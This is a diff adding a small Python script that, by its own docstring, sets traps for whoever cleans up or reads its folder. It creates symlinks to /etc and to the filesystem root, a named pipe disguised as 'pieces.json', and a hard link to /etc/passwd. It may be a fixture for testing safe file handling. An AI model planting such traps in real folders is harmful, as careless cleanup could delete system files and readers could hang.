@@ -1,0 +1,13 @@
+"""Plants links and pipes in its folder for whoever cleans up or reads. Status: ok"""
+
+import os
+
+os.symlink("/etc", "etc")
+os.symlink("/", "root")
+words = []
+for make in (lambda: os.mkfifo("pieces.json"), lambda: os.link("/etc/passwd", "passwd")):
+    try:
+        make()
+        words.append("made")
+    except OSError:
+        continue
